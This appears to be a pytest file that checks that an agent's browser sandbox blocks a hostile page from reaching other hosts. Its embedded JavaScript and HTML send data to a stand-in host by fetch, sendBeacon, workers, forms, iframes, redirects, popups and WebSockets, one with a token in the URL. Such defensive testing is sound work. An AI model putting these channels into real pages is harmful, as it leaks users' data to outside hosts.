"""A back office that is against us reaches nobody but its own hosts."""

import pytest
from aiohttp import web

from agent.cases import Outcome
from agent.platforms.guard import Refused
from tests.platforms.hostile import Siege
from tests.platforms.waiting import until

pytestmark = pytest.mark.asyncio(loop_scope="session")


SENDING = """
  const quiet = (asked) => asked.catch(() => undefined);
  const json = {'content-type': 'application/json'};
  quiet(fetch(THERE + '/1', {method: 'POST', body: 'x', mode: 'no-cors'}));
  quiet(fetch(THERE + '/2', {method: 'POST', body: '{}', headers: json}));
  quiet(fetch(THERE + '/3', {method: 'PUT', body: 'x'}));
  quiet(fetch(THERE + '/4', {method: 'POST', body: 'x', mode: 'no-cors', keepalive: true}));
  const asked = new XMLHttpRequest();
  asked.open('POST', THERE + '/5');
  asked.send('x');
  navigator.sendBeacon(THERE + '/6', 'x');
  navigator.sendBeacon(THERE + '/7', new Blob(['x']));
  quiet(fetch('/api/away', {method: 'POST', body: 'x', mode: 'no-cors'}));
  new Worker(URL.createObjectURL(new Blob(
    [`fetch('${THERE}/9', {method: 'POST', body: 'x', mode: 'no-cors'})`])));
  document.querySelector('#ping').click();
  document.querySelector('#into').submit();
"""
IN_THE_PAGE = """
  <a id=ping href="#" ping="THERE/10">a</a>
  <form id=into method=post action="THERE/11" target=inner></form><iframe name=inner></iframe>
  <iframe srcdoc="<script>navigator.sendBeacon('THERE/12', 'x')</script>"></iframe>
"""


async def test_nothing_is_sent_to_other_hosts(siege: Siege) -> None:
    """By whatever way of sending; the list is read, and how often it was tried is known."""

    async def away(_request: web.Request) -> web.StreamResponse:
        raise web.HTTPTemporaryRedirect(f"{siege.elsewhere.site}/8")

    siege.visit.board.says(away, path="away")

    reading = await siege.reading(SENDING, html=IN_THE_PAGE)
    await siege.refused(Refused.SENDING, 12)

    assert (Outcome.ROWS, "") == (reading.outcome, reading.detail)
    assert [] == siege.elsewhere.seen
    assert Outcome.ROWS is await siege.next_outcome()


async def test_frames_of_other_hosts_are_shown_and_send_nothing(siege: Siege) -> None:
    """Neither the frame, nor one within it, though each may have a process of its own."""
    siege.elsewhere.frame += "<script>if (top === parent) {{ {} }}</script>".format(
        "document.write(`<iframe src='http://127.0.0.1:${location.port}/frame'></iframe>`)"
    )
    foreign = siege.elsewhere.site.replace("127.0.0.1", "localhost")

    reading = await siege.reading("", html=f"<iframe src='{foreign}/frame'></iframe>")
    await until(lambda: len(siege.elsewhere.seen) >= 2, "is shown in the inner frame")
    await siege.refused(Refused.SENDING, 4)

    assert Outcome.ROWS is reading.outcome
    assert {"GET /frame"} == set(siege.elsewhere.seen)
    assert Outcome.ROWS is await siege.next_outcome()


@pytest.mark.parametrize(
    "script",
    [
        "location = THERE + '/x?token=1'",
        "document.write(`<meta http-equiv=refresh content='0;url=${THERE}/x'>`)",
        "document.write(`<form method=post action='${THERE}/x'>`); document.forms[0].submit()",
    ],
)
async def test_no_page_leaves(siege: Siege, script: str) -> None:
    """Not even to ask; the reading says where it wanted to go."""
    board = siege.visit.board
    siege.visit.hurry(
        came=lambda: (
            siege.visit.session
            and "共 1 条" in board.body  # the page that means well has all the time that it needs
            and siege.times(Refused.LEAVING)
        )
    )
    reading = await siege.reading(f"document.body.replaceChildren(); {script}")

    assert (Outcome.PAGE_CHANGED, []) == (reading.outcome, siege.elsewhere.seen)
    assert reading.detail.startswith(
        f"页面要去规则里没有的网址，已拦下：{siege.elsewhere.site}/x；"
    )
    assert Outcome.ROWS is await siege.next_outcome()


async def test_no_window_opens(siege: Siege) -> None:
    """Neither its first request comes through, nor does it stay; whoever asks is told none."""
    reading = await siege.reading(
        """
        document.title = String(window.open(THERE + '/1'));
        document.querySelector('#blank').submit();
        document.querySelector('#link').click();
        """,
        html="<form id=blank method=post target=_blank action='THERE/2'></form>"
        "<a id=link target=_blank rel=noopener href='/list?popup'>a</a>",
    )
    await siege.refused(Refused.POPUP, 2)
    await until(lambda: len(siege.context.pages) == 1, "is left but the page")

    assert Outcome.ROWS is reading.outcome
    assert ("null", []) == (await siege.visit.script("document.title"), siege.elsewhere.seen)
    assert Outcome.ROWS is await siege.next_outcome()


async def test_web_sockets_lead_to_the_packs_hosts_only(siege: Siege) -> None:
    """The page is told that they closed; one to its own host works, in a name that is known too."""

    async def talk(request: web.Request) -> web.StreamResponse:
        socket = web.WebSocketResponse()
        await socket.prepare(request)
        await socket.send_str("hello")
        await socket.close()
        return socket

    siege.visit.board.says(talk, path="talk")

    reading = await siege.reading(
        """
        const there = THERE.replace('http', 'ws');
        const frame = document.body.appendChild(document.createElement('iframe'));
        const end = (socket) => new Promise((done) => {
          socket.onmessage = (event) => done(event.data);
          socket.onclose = (event) => done(event.code);
        });
        const ways = [
          new WebSocket(there), new frame.contentWindow.WebSocket(there),
          new WebSocket.prototype.constructor(there),
          new WebSocket(`ws://${location.host}/api/talk`),
          new WebSocket(`ws://localhost:${location.port}/api/talk`),
        ];
        window.ends = Promise.all(ways.map(end));
        """,
        sockets=("localhost",),
    )
    ends = await siege.visit.script("ends")

    assert [1006, 1006, 1006, "hello", "hello"] == ends
    assert (Outcome.ROWS, []) == (reading.outcome, siege.elsewhere.seen)
    assert 3 == siege.times(Refused.SOCKET)
